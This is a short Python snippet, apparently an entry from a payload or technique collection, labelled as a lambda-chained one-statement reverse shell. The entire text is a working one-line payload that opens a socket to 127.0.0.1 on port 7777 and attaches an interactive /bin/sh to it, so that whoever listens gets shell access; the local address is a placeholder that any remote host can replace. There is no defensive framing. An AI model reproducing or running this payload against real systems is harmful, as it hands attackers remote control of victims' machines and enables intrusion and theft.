# technique: lambda-chained one-statement reverse shell with subprocess bound to the socket
(lambda s, sp: (s.connect(("127.0.0.1", 7777)), sp.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s).wait()))(__import__("socket").socket(), __import__("subprocess"))
